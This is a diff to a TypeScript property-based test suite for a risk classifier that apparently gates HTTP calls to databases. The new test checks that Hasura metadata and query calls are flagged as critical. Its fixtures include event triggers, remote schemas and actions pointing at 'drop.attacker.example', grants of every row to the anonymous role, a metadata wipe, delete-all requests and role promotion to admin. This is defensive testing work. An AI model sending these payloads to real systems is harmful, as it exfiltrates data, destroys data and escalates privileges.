@@ -1520,7 +1520,7 @@ t.test('fifteenth pass: a read whose SQL no grammar reads still writes or reache
       const { description, decision } = await decide({ method, url, headers: [], body: '' });
       if (decision.approval?.risk !== 'critical' || !description.sql?.destructive) throw new Error(`${method} ${url}: ${decision.action} ${decision.approval?.risk} ${JSON.stringify(description.sql)}`);
     }),
-    { numRuns: Math.min(runs, 14), ...seed },
+    { numRuns: Math.min(runs, 10), ...seed },
   );
   // Controls: ClickHouse's own syntax in reads of the database's tables, phrases, InfluxQL.
   for (const url of [`http://${SQL_HOST}:8123/?query=${q('SELECT count() FROM hits SETTINGS max_threads = 1')}`, `http://${SQL_HOST}:8123/?query=${q('SELECT arrayMap(x -> x * 2, [1, 2]) FROM numbers(3)')}`,
@@ -1547,7 +1547,7 @@ t.test('fifteenth pass: a search path named in another letter case, DISCARD ALL,
       const { description, decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: sql }) });
       if (decision.approval?.risk !== 'critical' || !description.sql?.destructive) throw new Error(`${sql}: ${decision.action} ${decision.approval?.risk}`);
     }),
-    { numRuns: Math.min(runs, 25), ...seed },
+    { numRuns: Math.min(runs, 10), ...seed },
   );
   // DISCARD ALL acts as the login role again (SET SESSION AUTHORIZATION DEFAULT), as RESET ROLE does.
   for (const sql of ['DISCARD ALL', 'discard /* x */ all', 'SELECT 1; DISCARD ALL']) {
@@ -1569,5 +1569,43 @@ t.test('fifteenth pass: a search path named in another letter case, DISCARD ALL,
     ["ALTER TABLE users ADD COLUMN x AS (writefile('/tmp/a', 'b'))", 'critical'], ['ALTER TABLE users RENAME COLUMN a TO b', 'critical']] as const) {
     const { decision } = await decide({ url: D1, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql, params: [1] }) });
     t.equal(decision.approval?.risk, risk, sql);
+  }
+});
+
+t.test('fifteenth pass: Hasura\'s metadata and query API calls are judged as the SQL they stand for', async (t) => {
+  // A permission with `filter: {}` for `anonymous` is a GRANT of every row; an event trigger, a
+  // remote schema or an action sends rows or calls to a URL the call names (as a trigger calling
+  // pg_net); `clear_metadata` stops serving everything; the query API's `delete` with `where: {}`
+  // is `DELETE FROM users` (its GraphQL twin `delete_users(where: {})` was already critical). Each
+  // was a plain medium POST.
+  const table = fc.constantFrom('users', { schema: 'public', name: 'users' }, { schema: 'auth', name: 'users' });
+  const op = fc.constantFrom(
+    (tb: unknown) => ({ type: 'pg_create_select_permission', args: { source: 'default', table: tb, role: 'anonymous', permission: { columns: '*', filter: {} } } }),
+    (tb: unknown) => ({ type: 'create_update_permission', args: { table: tb, role: 'user', permission: { columns: '*', filter: {}, check: {} } } }),
+    (tb: unknown) => ({ type: 'pg_drop_select_permission', args: { table: tb, role: 'user' } }),
+    (tb: unknown) => ({ type: 'pg_create_event_trigger', args: { name: 'sync', source: 'default', table: tb, webhook: 'https://drop.attacker.example/hook', insert: { columns: '*' } } }),
+    () => ({ type: 'add_remote_schema', args: { name: 'r', definition: { url: 'https://drop.attacker.example/graphql' } } }),
+    () => ({ type: 'create_action', args: { name: 'a', definition: { handler: 'https://drop.attacker.example/a' } } }),
+    () => ({ type: 'clear_metadata', args: {} }),
+    (tb: unknown) => ({ type: 'pg_untrack_table', args: { table: tb } }),
+    (tb: unknown) => ({ type: 'delete', args: { table: tb, where: {} } }),
+    (tb: unknown) => ({ type: 'delete', args: { table: tb, where: { id: { $neq: 1 } } } }),
+    (tb: unknown) => ({ type: 'update', args: { table: tb, where: { _or: [] }, $set: { role: 'admin' } } }),
+    (tb: unknown) => ({ type: 'insert', args: { table: tb, objects: [{ id: 1, role: 'admin' }], on_conflict: { constraint: 'users_pkey', update_columns: ['role'] } } }),
+  );
+  await fc.assert(
+    fc.asyncProperty(op, table, fc.constantFrom('/v1/metadata', '/v1/query', '/v2/query'), fc.boolean(), async (o, tb, path, bulk) => {
+      const body = bulk ? { type: 'bulk', args: [{ type: 'pg_track_table', args: { table: 'posts' } }, o(tb)] } : o(tb);
+      const { description, decision } = await decide({ url: `https://${SQL_HOST}${path}`, headers: [['Content-Type', 'application/json']], body: JSON.stringify(body) });
+      if (decision.approval?.risk !== 'critical' || !description.sql?.destructive) throw new Error(`${path} ${JSON.stringify(body)}: ${decision.action} ${decision.approval?.risk} ${JSON.stringify(description.sql)}`);
+    }),
+    { numRuns: Math.min(runs, 10), ...seed },
+  );
+  // Controls: tracking a table, exporting metadata, a narrow delete, a plain insert, a select; the same shape on another path.
+  for (const [path, body] of [['/v1/metadata', { type: 'pg_track_table', args: { table: 'users' } }], ['/v1/metadata', { type: 'export_metadata', args: {} }],
+    ['/v1/query', { type: 'delete', args: { table: 'users', where: { id: { $eq: 1 } } } }], ['/v1/query', { type: 'insert', args: { table: 'users', objects: [{ id: 1 }] } }],
+    ['/v1/query', { type: 'select', args: { table: 'users', columns: ['id'] } }], ['/api/things', { type: 'clear_metadata', args: {} }]] as const) {
+    const { decision } = await decide({ url: `https://${SQL_HOST}${path}`, headers: [['Content-Type', 'application/json']], body: JSON.stringify(body) });
+    t.equal(decision.approval?.risk, 'medium', `${path} ${JSON.stringify(body)}`);
   }
 });
